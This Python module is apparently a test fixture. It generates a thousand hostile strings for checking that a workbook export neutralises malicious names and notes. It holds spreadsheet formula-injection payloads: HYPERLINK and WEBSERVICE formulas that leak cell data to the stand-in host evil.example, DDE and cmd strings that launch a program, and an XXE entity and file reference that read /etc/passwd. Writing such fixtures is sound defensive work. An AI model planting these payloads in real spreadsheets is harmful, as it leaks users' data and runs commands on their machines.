"""A thousand texts that somebody could put into a name or a note to do harm with a workbook."""

from __future__ import annotations

from itertools import islice, product
from typing import Final

N_TEXTS: Final = 1000

_STARTS: Final = (
    "=", "+", "-", "@", "\t=", "\r=", "\r\n=", "\n=", " =", "'=", "''=", '"=', ";=", ",=", "|=",
    "%=", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", "\u202e=", "\u2066=", "\x00=", "\x1f=",
    "{=", "-2+3+", "_x003D_", "&#61;", "=-", "==",
)  # fmt: skip
"""What a spreadsheet program may take for the start of a formula, openly or behind something."""

_BODIES: Final = (
    "1+1",
    'HYPERLINK("http://evil.example/?leak="&A1,"click")',
    'WEBSERVICE("http://evil.example/?"&Decision!B10)',
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://evil.example","//a")',
    "INDIRECT(\"'Decision'!B10\")",
    "'file:///etc/passwd'#$passwd.A1",
    "'[evil.xlsx]Sheet1'!A1",
    'EXEC("calc")',
    "SUM(in_commitment)",
)

_ODD: Final = (
    "x" * 40_000,
    "=" + "1+" * 20_000 + "1",
    "<script>alert(1)</script>",
    "]]><f>1+1</f><![CDATA[",
    "</t></is></c><c><f>1+1</f></c>",
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "&lt;&amp;&quot;&#x3D;1+1",
    "a _x000D__x0000_ escape",
    "a\x00b\x07c\x1b[31m\x7f\x85",
    "\u202egnirts \u2066a\u2069\u200f\u061c",
    "\U0001f4b8\U0001f1e9\U0001f1ea e\u0301 \u0130\u0131\ufb01",
    "\ufffe\uffff\ue000 no character",
    "[]:*?/\\'",
    "'Decision'!A1",
    "#REF!",
    "#DIV/0!",
    "TRUE",
    "00123",
    "1e400",
    "2027-01-01",
    "line one\nline two\r\nline three\rline four",
    '""""',
    "'leading apostrophe",
    "none, and not [>=900]",
)


def hostile_texts() -> tuple[str, ...]:
    """A thousand different texts; what has no bad end of its own gets a number as its end."""
    crossed = (f"{start}{body} {i}" for i, (start, body) in enumerate(_crossed()))
    return (*_ODD, *islice(crossed, N_TEXTS - len(_ODD)))


def _crossed() -> list[tuple[str, str]]:
    once = list(product(_STARTS, _BODIES))
    return once * (N_TEXTS // len(once) + 1)
